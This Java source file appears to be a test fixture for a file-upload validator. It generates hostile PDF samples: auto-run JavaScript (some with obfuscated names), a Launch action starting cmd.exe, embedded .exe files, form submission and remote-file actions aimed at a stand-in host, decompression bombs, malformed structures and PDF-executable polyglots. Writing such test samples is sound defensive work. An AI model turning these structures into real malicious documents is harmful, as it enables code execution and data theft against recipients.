package az.icma.files;

import java.util.function.Supplier;
import java.util.stream.Stream;

import static az.icma.files.Refusal.ACTIONS;
import static az.icma.files.Refusal.DAMAGED;
import static az.icma.files.Refusal.ELSEWHERE;
import static az.icma.files.Refusal.ENCRYPTED;
import static az.icma.files.Refusal.INSIDE;
import static az.icma.files.Refusal.PIXELS;
import static az.icma.files.Refusal.TWO_THINGS;
import static az.icma.files.Refusal.UNPACKS;
import static az.icma.files.SmallFiles.bytes;
import static az.icma.files.SmallFiles.joined;
import static az.icma.files.SmallFiles.packed;
import static az.icma.files.SmallFiles.packedStream;

/** Papers that act, carry, reach out or burst. */
final class HostilePdfs {

    private HostilePdfs() {}

    static Stream<HostileFile> all() {
        return Stream.of(acting(), reachingOut(), bursting()).flatMap(files -> files);
    }

    private static Stream<HostileFile> acting() {
        return Stream.of(
                opening(ACTIONS, "a script when it opens", "<< /S /JavaScript /JS (app.alert(1)) >>"),
                opening(ACTIONS, "a script with a disguised name", "<< /S /J#61vaScript /#4a#53 (app.alert(1)) >>"),
                opening(
                        ACTIONS,
                        "a script after a harmless act",
                        "<< /S /Named /N /NextPage /Next << /S /JavaScript >> >>"),
                opening(ACTIONS, "a program that starts", "<< /S /Launch /F (cmd.exe) >>"),
                opening(ACTIONS, "data that come from a file", "<< /S /ImportData /F (a.fdf) >>"),
                pdf(
                        ACTIONS,
                        "a script under a name",
                        () -> SmallFiles.pdf("/Names << /JavaScript << /Names [(a) 4 0 R] >> >>", "<< /JS (a) >>")),
                pdf(
                        ACTIONS,
                        "a script that no page names",
                        () -> SmallFiles.pdf("", "<< /S /JavaScript /JS (app.alert(1)) >>")),
                pdf(ACTIONS, "a script among packed objects", SmallFiles::pdfWithPackedScript),
                pdf(
                        ACTIONS,
                        "a form that is a program",
                        () -> SmallFiles.pdf("/AcroForm << /Fields [] /XFA (<xdp/>) >>")),
                pdf(
                        INSIDE,
                        "a file within the paper",
                        () -> SmallFiles.pdf(
                                "",
                                "<< /Type /Filespec /F (a.exe) /EF << /F 5 0 R >> >>",
                                "<< /Type /EmbeddedFile /Length 0 >>\nstream\n\nendstream")),
                pdf(
                        INSIDE,
                        "a file pinned to a page",
                        () -> SmallFiles.pdf("", "<< /Type /Annot /Subtype /FileAttachment >>")),
                pdf(
                        INSIDE,
                        "a film with a program",
                        () -> SmallFiles.pdf("", "<< /Type /Annot /Subtype /RichMedia >>")));
    }

    private static Stream<HostileFile> reachingOut() {
        return Stream.of(
                opening(ELSEWHERE, "another file that opens", "<< /S /GoToR /F (\\\\\\\\x.example\\\\a.pdf) >>"),
                opening(
                        ELSEWHERE,
                        "a form that sends itself",
                        "<< /S /SubmitForm /F << /FS /URL /F (http://x.example) >> >>"),
                opening(ELSEWHERE, "a link to a program in PDF", "<< /S /URI /URI (file:///c:/x.exe) >>"),
                opening(ELSEWHERE, "a link with a script in PDF", "<< /S /URI /URI (javascript:alert\\(1\\)) >>"),
                pdf(
                        ELSEWHERE,
                        "a picture that lies elsewhere",
                        () -> SmallFiles.pdf("", "<< /Length 0 /F (http://x.example/a) >>\nstream\n\nendstream")));
    }

    private static Stream<HostileFile> bursting() {
        return Stream.of(
                pdf(ENCRYPTED, "a locked paper", () -> SmallFiles.lockedPdf("secret")),
                pdf(
                        UNPACKS,
                        "a stream that grows a thousand times",
                        () -> SmallFiles.pdf("", packedStream("", packed(new byte[80 << 20])))),
                pdf(
                        UNPACKS,
                        "a stream packed twice",
                        () -> SmallFiles.pdf(
                                "", "<< /Length 1 /Filter [/FlateDecode /FlateDecode] >>\nstream\nx\nendstream")),
                pdf(
                        UNPACKS,
                        "objects packed in a way of their own",
                        () -> SmallFiles.pdf(
                                "",
                                "<< /Type /ObjStm /N 1 /First 4 /Length 1 /Filter [/ASCIIHexDecode /FlateDecode] >>\nstream\nx\nendstream")),
                pdf(
                        PIXELS,
                        "a picture of ten thousand million points",
                        () -> SmallFiles.pdf(
                                "",
                                "<< /Subtype /Image /Width 100000 /Height 100000 /Length 0 >>\nstream\n\nendstream")),
                pdf(
                        DAMAGED,
                        "a paper without an end",
                        () -> bytes("%PDF-1.7\n1 0 obj\n<< /Type /Catalog >>\nendobj\n")),
                pdf(DAMAGED, "a paper without a beginning", () -> bytes("%PDF-1.7\nnothing\n%%EOF\n")),
                pdf(
                        DAMAGED,
                        "lists within lists without end",
                        () -> SmallFiles.pdf("/A " + "[".repeat(50_000) + "]".repeat(50_000))),
                pdf(
                        TWO_THINGS,
                        "a paper that is an archive too",
                        () -> joined(
                                SmallFiles.pdf(),
                                new Archive().with("a.exe", "MZ").bytes())),
                pdf(
                        TWO_THINGS,
                        "a paper with a program behind",
                        () -> joined(SmallFiles.pdf(), bytes("MZ" + "x".repeat(5_000)))));
    }

    private static HostileFile opening(Refusal refusal, String attack, String action) {
        return pdf(refusal, attack, () -> SmallFiles.pdf("/OpenAction " + action));
    }

    private static HostileFile pdf(Refusal refusal, String attack, Supplier<byte[]> content) {
        return HostileFile.of(refusal, attack, "letter.pdf", content);
    }
}
